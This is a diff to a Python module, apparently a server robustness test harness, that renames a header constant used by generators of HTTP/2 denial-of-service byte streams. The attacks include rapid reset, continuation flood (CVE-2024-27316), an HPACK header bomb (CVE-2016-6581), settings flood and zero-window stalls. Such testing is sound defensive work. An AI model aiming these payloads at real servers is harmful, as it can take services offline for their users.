@@ -119,8 +119,8 @@ def _text(data: bytes) -> bytes:
     return bytes((len(data),)) + data
 
 
-# :method POST and :scheme http from the static table, the rest as literals.
-_CALL = (
+# A good head: :method POST and :scheme http from the static table, the rest as literals.
+CALL = (
     b"\x83\x86"
     + b"\x04" + _text(_TRACES)
     + b"\x01" + _text(b"localhost")
@@ -135,14 +135,14 @@ def rapid_reset(streams: int) -> Iterator[bytes]:
     yield HELLO
     for first in range(1, 2 * streams, 200):
         yield b"".join(
-            frame(_HEADERS, _END_HEADERS, stream, _CALL) + frame(_RST_STREAM, 0, stream, _CANCEL)
+            frame(_HEADERS, _END_HEADERS, stream, CALL) + frame(_RST_STREAM, 0, stream, _CANCEL)
             for stream in range(first, first + 200, 2)
         )
 
 
 def continuation_flood(frames: int) -> Iterator[bytes]:
     """CVE-2024-27316 and its like: a head that never ends."""
-    yield HELLO + frame(_HEADERS, 0, 1, _CALL)
+    yield HELLO + frame(_HEADERS, 0, 1, CALL)
     piece = frame(_CONTINUATION, 0, 1, b"\x00" + _text(b"a" * 100) + _text(b"b" * 100)) * 50
     for _ in range(frames // 50):
         yield piece
@@ -151,9 +151,9 @@ def continuation_flood(frames: int) -> Iterator[bytes]:
 def header_bomb(streams: int) -> Iterator[bytes]:
     """CVE-2016-6581: one entry of 4 KB in the table, and thousands of one-byte references to it."""
     entry = b"\x40" + _text(b"bomb") + b"\x7f\xa1\x1e" + b"x" * 4000
-    yield HELLO + frame(_HEADERS, _END_HEADERS, 1, _CALL + entry)
+    yield HELLO + frame(_HEADERS, _END_HEADERS, 1, CALL + entry)
     for stream in range(3, 2 * streams + 1, 2):
-        yield frame(_HEADERS, _END_HEADERS, stream, _CALL + b"\xbe" * 16_000)
+        yield frame(_HEADERS, _END_HEADERS, stream, CALL + b"\xbe" * 16_000)
 
 
 def settings_flood(frames: int) -> Iterator[bytes]:
@@ -178,7 +178,7 @@ def zero_window(calls: int, message: bytes) -> bytes:
         PREFACE
         + settings
         + b"".join(
-            frame(_HEADERS, _END_HEADERS, stream, _CALL) + frame(_DATA, _END_STREAM, stream, body)
+            frame(_HEADERS, _END_HEADERS, stream, CALL) + frame(_DATA, _END_STREAM, stream, body)
             for stream in range(1, 2 * calls, 2)
         )
     )
@@ -187,12 +187,12 @@ def zero_window(calls: int, message: bytes) -> bytes:
 def open_call(message_bytes: int) -> bytes:
     """A call that announces a message of this size, and has not sent it."""
     prefix = b"\0" + struct.pack(">I", message_bytes)
-    return frame(_HEADERS, _END_HEADERS, 1, _CALL) + frame(_DATA, 0, 1, prefix)
+    return frame(_HEADERS, _END_HEADERS, 1, CALL) + frame(_DATA, 0, 1, prefix)
 
 
 def packed_call(packed: bytes) -> bytes:
     """A call with a gzip message; as much of it as a sender may send unasked, and the rest too."""
-    head = _CALL + b"\x00" + _text(b"grpc-encoding") + _text(b"gzip")
+    head = CALL + b"\x00" + _text(b"grpc-encoding") + _text(b"gzip")
     message = b"\1" + struct.pack(">I", len(packed)) + packed
     pieces = [message[at : at + 16384] for at in range(0, len(message), 16384)]
     return frame(_HEADERS, _END_HEADERS, 1, head) + b"".join(
